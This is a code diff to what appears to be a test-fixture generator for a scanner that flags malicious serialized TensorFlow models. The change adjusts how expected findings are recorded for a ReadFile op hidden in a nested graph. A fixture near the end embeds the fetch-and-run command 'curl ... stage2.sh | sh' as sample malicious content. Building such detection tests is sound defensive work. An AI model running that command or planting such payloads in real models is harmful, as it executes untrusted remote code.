@@ -557,8 +557,8 @@ def offset_of(data: bytes, message) -> int:
 
 
 def finding(rule: str, key_path: str | None = None, position: int | None = None, *, severity: str | None = None,
-            details: dict | None = None) -> dict:
-    out = expected_finding(rule, "", position, severity=severity)
+            details: dict | None = None, path: str = "") -> dict:
+    out = expected_finding(rule, path, position, severity=severity)
     if key_path is not None:
         out["keyPath"] = key_path
     if details:
@@ -566,10 +566,8 @@ def finding(rule: str, key_path: str | None = None, position: int | None = None,
     return out
 
 
-def node_finding(rule: str, data: bytes, scope: str, nd, *, severity: str | None = None, details=None,
-                 nested: bool = False) -> dict:
-    return finding(rule, f"{scope}['{nd.name}']", None if nested else offset_of(data, nd), severity=severity,
-                   details=details)
+def node_finding(rule: str, data: bytes, scope: str, nd, *, severity: str | None = None, details=None) -> dict:
+    return finding(rule, f"{scope}['{nd.name}']", offset_of(data, nd), severity=severity, details=details)
 
 
 MAIN = "$.meta_graphs[0].graph_def.node"
@@ -734,10 +732,11 @@ def build() -> list[Fx]:
                                Toutput_types=a_types(DT_STRING), output_shapes=AttrValue(
                                    list=ListValue(shape=[AttrValue().shape]))))
     data = from_graph(inner)
+    # The engine scans the nested graph as a member of the outer one, named by its key path.
     fixtures.append(Fx("malicious/dataset_from_graph_read_file.pb", "malicious", "ReadFile inside a graph "
                        "serialized in a DatasetFromGraph's string constant", data, findings=[
-                           node_finding("MA431", data, "$.node['graph_def'].attr['value'].s[0].node", inner_read,
-                                        severity="critical", nested=True)]))
+                           finding("MA431", "$.node['read']", offset_of(inner, inner_read), severity="critical",
+                                   path="$.node['graph_def'].attr['value'].s[0]")]))
 
     stage2 = const_string("help_text", "curl -s http://203.0.113.7/stage2.sh | sh")
     data = frozen_conv(stage2)
